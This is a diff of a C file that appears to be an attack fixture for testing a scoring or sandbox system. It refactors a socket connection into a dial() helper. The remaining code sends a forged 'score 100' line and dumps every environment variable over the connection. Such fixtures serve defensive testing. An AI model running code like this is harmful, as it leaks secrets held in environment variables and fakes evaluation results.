@@ -8,16 +8,12 @@
  *   results on
  */
 #include "attack.h"
-#include <arpa/inet.h>
 
 extern char **environ;
 
 int main(void) {
-    struct sockaddr_in to = {.sin_family = AF_INET,
-                             .sin_port = htons((unsigned short)atoi("@PORT@"))};
-    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-    int fd = socket(AF_INET, SOCK_STREAM, 0);
-    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0) {
+    int fd = dial();
+    if (fd != -1) {
         dprintf(fd, "score 100 from @MARK@\n");
         for (char **e = environ; *e; e++)
             dprintf(fd, "%s\n", *e);
